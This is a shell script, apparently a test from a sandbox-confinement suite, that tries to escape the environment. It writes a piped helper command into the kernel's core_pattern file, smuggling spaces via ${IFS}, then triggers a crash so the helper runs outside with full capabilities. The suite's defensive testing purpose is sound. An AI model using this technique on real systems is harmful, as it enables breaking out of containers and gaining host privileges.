#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Has the kernel start a program outside the REE for every crash, and crashes.
#
# attack: core_pattern_helper
# class: system
# when: idle
# judge: self
# defence: confinement
# why: core_pattern names a program that runs with all capabilities; the REE's /proc/sys is read-only
. /attack/lib/attack.sh
pattern=/proc/sys/kernel/core_pattern
old=$(cat "$pattern")
rm -f /tmp/ran
ready
# %P is the process that crashed, as the outside counts; the shell makes the space.
put "$pattern" '|/bin/sh -c grep${IFS}CapBnd${IFS}/proc/self/status>/proc/%P/root/tmp/ran'
(ulimit -c unlimited; sh -c 'kill -SEGV $$') 2>/dev/null
pause 0.5
put "$pattern" "$old"
[ -s /tmp/ran ] || failed no program was started
succeeded "a program ran outside: $(cat /tmp/ran)"
